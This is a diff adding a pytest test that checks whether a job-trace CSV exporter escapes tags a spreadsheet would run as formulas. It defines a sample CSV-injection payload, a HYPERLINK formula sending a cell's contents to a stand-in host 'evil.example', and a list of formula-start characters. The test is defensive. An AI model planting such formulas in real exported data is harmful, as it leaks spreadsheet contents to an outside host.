@@ -188,3 +188,35 @@ def test_a_trace_cut_short_leaves_no_csv_that_looks_complete(
     ]
     assert earlier.read_text() == "submit_time_s,duration_s,pool\n0,100,a\n"
     assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.csv"]  # nor a temporary file beside it
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+def test_tags_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_replayed_as_tagged(
+    account: System, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # whoever starts a job writes its tags: opened in a spreadsheet, a team `=HYPERLINK(...)` ran as a
+    # formula (CSV injection); each such text cell is written after a `'`, which simulate drops again
+    account.run_job("f-1", 250, tags={"team": FORMULA, "owner": "@alice"})
+    account.run_job("f-2", 250, tags={"team": "-ops", "owner": "+bob"})
+    trace = tmp_path / "mine.csv"
+    capsys.readouterr()
+    assert main(["trace", "export", "--days", "1", "--out", str(trace)]) == 0
+    with trace.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["job_name"], r["team"], r["user"]) for r in rows][-2:] == [
+        ("f-1", "'" + FORMULA, "'@alice"),
+        ("f-2", "'-ops", "'+bob"),
+    ]
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_starts)]
+    # the numbers stay numbers
+    assert [(float(r["duration_s"]), int(r["instance_count"])) for r in rows][-2:] == [(100, 1), (100, 1)]
+    capsys.readouterr()
+
+    # replayed: each team is its tag, as a policy's teams and `--by team` name it
+    assert main(["simulate", str(trace), "--instance-type", "trace", "--by", "team", "--format", "json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert sorted(report["by_team"]) == sorted([FORMULA, "-ops", "nlp", "vision"])
+    assert report["by_team"]["-ops"]["jobs"] == 1
